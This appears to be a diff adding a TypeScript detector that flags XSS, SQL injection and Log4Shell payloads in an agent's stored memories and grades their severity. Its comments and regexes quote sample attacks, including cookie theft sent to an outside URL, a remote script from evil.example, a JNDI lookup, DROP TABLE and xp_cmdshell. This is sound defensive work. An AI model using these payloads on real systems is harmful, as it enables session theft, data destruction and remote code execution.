@@ -1,0 +1,132 @@
+/**
+ * Payloads aimed at the programs a memory flows into rather than at the agent: script injected into HTML (a memory
+ * shown in a web page runs it), SQL that breaks out of a quoted value, and JNDI lookups that a logging library resolves
+ * (Log4Shell). The shapes are the attack's own, not the technology's: a page's `<script src="https://cdn…">`, a
+ * consent banner that sets `document.cookie`, `href="javascript:void(0)"` or an ordinary `SELECT … WHERE name = 'x'`
+ * pass; a script that sends the cookie away, a handler that pops `alert(1)`, `' OR '1'='1` and `'; DROP TABLE` do not.
+ *
+ * Severity: `high` for what takes something or changes something (the cookie read and sent, code decoded and run, a
+ * remote script after an attribute is closed, a stacked destructive statement, `xp_cmdshell`, a JNDI lookup); `medium` for the probes that
+ * only show the hole (`alert(1)`, a tautology, `UNION SELECT`, a timed sleep). Beside words of a lesson, a test or a
+ * report ("example", "payload", "sanitize", "blocked", "CVE-…") it is a level lower, two when it is quoted or in
+ * backticks: an example shown or a value a WAF logged.
+ */
+import type { Chunk, RuleHit, Severity } from '../../types'
+import { evidenceOf, shift } from './hit'
+
+interface WebPayload {
+  /** A cheap test a chunk must pass before `re` is tried (most chunks hold no tag, no SQL keyword, no `${`). */
+  gate: RegExp
+  re: RegExp
+  severity: Severity
+  what: string
+}
+
+const HTML_GATE = /<[a-z]|javascript:/i
+const SQL_GATE = /['"]\s*\)?\s*(?:;|OR\b|AND\b|UNION\b|\|\|)|xp_cmdshell|WAITFOR/i
+
+/** The session read (not set: a consent banner writes `document.cookie = "consent=yes"`). */
+const SESSION = String.raw`(?:document\.cookie(?!\s*=[^=])|localStorage|sessionStorage)`
+/** Somewhere to send it: a request, a beacon, an image or a navigation. */
+const SEND = String.raw`(?:fetch\s*\(|XMLHttpRequest|sendBeacon|\.src\s*=|location(?:\.href)?\s*=|\.open\s*\(|\bImage\s*\()`
+/** Code decoded and run: what a payload hides behind (`eval(atob('…'))`, `Function(String.fromCharCode(…))`). */
+const DECODED_RUN = String.raw`(?:eval|Function|setTimeout|setInterval)\s*\(\s*(?:atob|unescape|decodeURIComponent|String\.fromCharCode|location\.hash|document\.(?:URL|location))\b`
+/** Script code that takes the session or runs decoded code, in a script, a handler or a `javascript:` URL. */
+const TAKES = (inside: string): string =>
+  String.raw`(?:(?=${inside}{0,400}?${SESSION})(?=${inside}{0,400}?${SEND})|(?=${inside}{0,400}?${DECODED_RUN}))`
+const PROBE = String.raw`(?:alert|prompt|confirm|print)\s*[(\x60]`
+
+const PAYLOADS: WebPayload[] = [
+  {
+    // <script>fetch('https://x/?c='+document.cookie)</script>; <svg onload=eval(atob('…'))>; javascript:fetch(…)
+    re: new RegExp(
+      String.raw`<script\b[^>]{0,200}>${TAKES('[^<]')}|<[a-z][\w-]*\b[^>]{0,200}?\son[a-z]{3,20}\s*=${TAKES('[^>]')}|(?:\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*|^\s*)javascript\s*:${TAKES('[^\\s"\'>]')}`,
+      'gim',
+    ),
+    severity: 'high',
+    what: 'script injected into HTML that takes the session or fetches code',
+    gate: HTML_GATE,
+  },
+  {
+    // "><script src=https://evil.example/x.js></script>: an attribute closed outside any tag, then a remote script
+    // loaded (in a page, `<meta content="…">` before `<script src=…>` closes a tag that was opened)
+    re: /(?<!<[^<>]{0,1000})["']\s*\/?>\s*<script\b[^>]{0,200}\bsrc\s*=/gi,
+    severity: 'high',
+    what: 'an attribute closed outside any tag and a remote script loaded',
+    gate: /<script/i,
+  },
+  {
+    // <script>alert(1)</script>, <img src=x onerror=alert(document.domain)>, javascript:alert(1): the hole shown
+    re: new RegExp(
+      String.raw`<script\b[^>]{0,200}>\s{0,20}${PROBE}|<[a-z][\w-]*\b[^>]{0,200}?\son[a-z]{3,20}\s*=\s*["']?\s{0,20}${PROBE}|(?:\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*|^\s*)javascript\s*:\s{0,20}${PROBE}`,
+      'gim',
+    ),
+    severity: 'medium',
+    what: 'a script probe injected into HTML',
+    gate: HTML_GATE,
+  },
+  {
+    // '; DROP TABLE users; --   "); DELETE FROM accounts --   1; EXEC xp_cmdshell('whoami')
+    re: /['"]\s*\)?\s*;\s*(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b|EXEC(?:UTE)?\s)|\bxp_cmdshell\b/gi,
+    severity: 'high',
+    what: 'SQL that breaks out of a value and changes the database',
+    gate: SQL_GATE,
+  },
+  {
+    // ' OR '1'='1   " or ""="   ' OR 1=1 --   ' UNION SELECT username, password FROM users --   ' AND SLEEP(5)--
+    re: /['"]\s*\)?\s*(?:OR|\|\|)\s+['"]?(\w{1,10})['"]?\s*=\s*['"]?\1\b|['"]\s*\)?\s*(?:OR|AND)\s+['"]{2}\s*=\s*['"]|['"]\s*\)?\s*UNION\s+(?:ALL\s+)?SELECT\b|['"]\s*\)?\s*(?:AND|OR|;)\s+(?:SLEEP|BENCHMARK|pg_sleep)\s*\(\s*\d|['"]\s*\)?\s*;?\s*WAITFOR\s+DELAY\s+['"]/gi,
+    severity: 'medium',
+    what: 'SQL that breaks out of a value',
+    gate: SQL_GATE,
+  },
+  {
+    // ${jndi:ldap://evil.example/a}, ${${lower:j}ndi:rmi://…}: a lookup that Log4j resolves and loads code from (not a
+    // Spring placeholder with a default, `${server.url:http://localhost:8080}`)
+    re: /\$\{jndi:|\$\{(?=[jndi]{0,3}\$\{)(?:\$\{[^}]{0,30}\}|[jndi]){2,12}:(?:\$\{[^}]{0,30}\}|[a-z]){2,10}:\/\//gi,
+    severity: 'high',
+    what: 'a JNDI lookup (Log4Shell)',
+    gate: /\$\{/,
+  },
+]
+
+/** Words of a lesson, a test or a report about the attack, around an example or a record of it. */
+const TEACHING =
+  /\b(?:(?<!\.)example|e\.g\.|for instance|such as|payloads?|test(?:s|ing|ed)?(?: for)?|render(?:s|ed)?|as text|detect(?:s|ed)?|prevent|block(?:s|ed)|denied|match(?:es|ed)|rule|escape[sd]?|encod(?:e|ed|es)|saniti[sz]|vulnerab\w*|injectable|attack(?:er|s)?|injection|XSS|SQLi|classic|exploit\w*|CVE-\d+|CWE-\d+|(?:strings?|inputs?|values?|payloads?|text) like|OWASP|WAF|ModSecurity|advisory|pentest\w*|scanner|fix(?:es|ed)?|patch(?:es|ed)?|log(?:s|ged)?)\b/i
+
+/** Is the stretch inside backticks or double quotes on its line? (an example shown or a value recorded, not delivered) */
+function quotedOnLine(text: string, start: number): boolean {
+  const before = text.slice(text.lastIndexOf('\n', start - 1) + 1, start)
+  return (before.match(/`/g) ?? []).length % 2 === 1 || (before.match(/["“”]/g) ?? []).length % 2 === 1
+}
+
+/** The web payloads in one chunk, lower where a lesson, a test or a log shows them. */
+export function webPayloadHits(chunk: Chunk, text: string): RuleHit[] {
+  const body = text.slice(chunk.start, chunk.end)
+  if (!/[<'"$]|javascript:/i.test(body)) return []
+  const hits: RuleHit[] = []
+  const taken: Array<[number, number]> = []
+  for (const payload of PAYLOADS) {
+    if (!payload.gate.test(body)) continue
+    payload.re.lastIndex = 0
+    let count = 0
+    for (let m = payload.re.exec(body); m && count < 32; m = payload.re.exec(body), count++) {
+      if (m[0].length === 0) {
+        payload.re.lastIndex++
+        continue
+      }
+      const start = chunk.start + m.index
+      const end = start + m[0].length
+      // the strongest reading of a stretch only (the tables go from strong to weak within each kind)
+      if (taken.some(([a, b]) => start < b && end > a)) continue
+      taken.push([start, end])
+      // a lesson, a test or a log around it: two levels down when it is quoted, one when it is not
+      let severity = payload.severity
+      // (read before the match and after its line: the payload's own words, `alert("test")`, are not a lesson's)
+      const lineEnd = text.indexOf('\n', end)
+      const around = text.slice(Math.max(0, start - 160), start) + (lineEnd < 0 ? '' : text.slice(lineEnd, lineEnd + 160))
+      if (TEACHING.test(around)) severity = shift(severity, quotedOnLine(text, start) ? -2 : -1)
+      hits.push({ start, end, severity, evidence: evidenceOf(payload.what, m[0]) })
+    }
+  }
+  return hits
+}
